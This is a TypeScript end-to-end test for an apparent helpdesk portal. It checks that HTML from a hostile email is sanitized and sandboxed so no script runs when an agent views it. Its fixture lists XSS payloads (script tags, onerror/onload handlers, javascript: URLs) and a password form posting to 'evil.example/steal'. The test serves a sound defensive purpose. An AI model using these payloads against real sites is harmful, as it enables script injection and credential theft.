import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { launchBrowser } from '../harness/browser.ts'
import type { TestBrowser } from '../harness/browser.ts'
import { ADMIN, startTestApp } from '../support/app.ts'
import type { TestApp } from '../support/app.ts'
import { insertServer, mail, raw } from '../pipeline/support.ts'

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
)

/** Everything a hostile mail tries in order to run script in the agent's portal. */
const hostileHtml = [
  '<p id="greeting">Hello from a hostile mail</p>',
  "<script>window.top.document.title = 'pwned by script'; alert('script')</script>",
  "<img src=\"x\" onerror=\"window.top.document.title = 'pwned by onerror'; alert('onerror')\">",
  "<a id=\"js-link\" href=\"javascript:window.top.document.title='pwned by link';alert('link')\">click me</a>",
  "<svg onload=\"alert('svg')\"><circle r=\"5\"></circle></svg>",
  "<iframe src=\"javascript:alert('iframe')\"></iframe>",
  "<div style=\"background:url(javascript:alert('css'))\">styled</div>",
  "<form action=\"https://evil.example/steal\"><input name=\"password\"><button id=\"send\">Send</button></form>",
  '<img id="logo" src="cid:logo@customer.example" alt="logo">',
].join('\n')

describe('a request made from a hostile mail, in Chromium', () => {
  let app: TestApp
  let browser: TestBrowser
  let requestId: number

  before(async () => {
    app = await startTestApp({ dialect: 'sqlite' })
    const server = await insertServer(app.services.storage, { email: 'support@example.test' })
    const [out] = await app.services.ingest.ingestBatch(server, [
      raw(
        mail({
          from: 'Mallory <mallory@evil.example>',
          subject: 'Open me',
          contentType: 'multipart/related; boundary="rel"',
          body: [
            '--rel',
            'Content-Type: text/html; charset=utf-8',
            '',
            hostileHtml,
            '--rel',
            'Content-Type: image/png; name="logo.png"',
            'Content-ID: <logo@customer.example>',
            'Content-Transfer-Encoding: base64',
            '',
            png.toString('base64'),
            '--rel--',
          ].join('\r\n'),
        }),
      ),
    ])
    requestId = out!.requestId!
    browser = await launchBrowser()
  })
  after(async () => {
    await browser?.close()
    await app?.stop()
  })

  it('when the agent opens the request and clicks in the mail, then no script from the mail runs and its inline image shows', async () => {
    const { page } = browser
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.goto(`${app.url}/login`)
    await page.fill('input[name="email"]', ADMIN.email)
    await page.fill('input[name="password"]', ADMIN.password)
    await Promise.all([page.waitForURL(/\/requests/), page.click('button[type="submit"]')])

    await page.goto(`${app.url}/requests/${requestId}`)
    const title = await page.title()
    assert.match(title, /Open me/)
    const frameElement = await page.waitForSelector('iframe.mail-body')
    assert.equal(await frameElement.getAttribute('sandbox'), '')
    const frame = (await frameElement.contentFrame())!
    await frame.waitForSelector('text=Hello from a hostile mail')
    await frame.waitForLoadState('load')

    // The cid: image shows: the sandboxed frame has an opaque origin, so its own requests carry no
    // session cookie; the body route embeds the message's images as data: URLs.
    const logoWidth = await frame.$eval('img[alt="logo"]', (img) => (img as unknown as { naturalWidth: number }).naturalWidth)
    assert.equal(logoWidth, 1)
    // Clicking the mail's link does nothing either (the sanitizer drops `id`, hence text selectors).
    await frame.click('text=click me')
    await page.waitForTimeout(200)

    assert.deepEqual(dialogs, [])
    assert.equal(await page.title(), title)
    // Runs in the frame (no DOM types in this project's TypeScript configuration).
    const inside = await frame.evaluate(() => {
      const doc = (globalThis as any).document
      const all = [...doc.querySelectorAll('*')] as any[]
      return {
        scripts: doc.querySelectorAll('script, iframe, svg, form, object, embed').length as number,
        handlers: all.filter((el) => [...el.attributes].some((a: any) => a.name.startsWith('on'))).length,
        jsLinks: ([...doc.querySelectorAll('a')] as any[]).filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
        styled: (doc.querySelector('div')?.getAttribute('style') ?? null) as string | null,
      }
    })
    assert.deepEqual(inside, { scripts: 0, handlers: 0, jsLinks: 0, styled: null })
    // The portal around it still works: the page's own DOM is untouched.
    assert.equal(await page.locator('h1').count(), 1)
    assert.match((await page.locator('h1').textContent()) ?? '', /Open me/)
  })
})
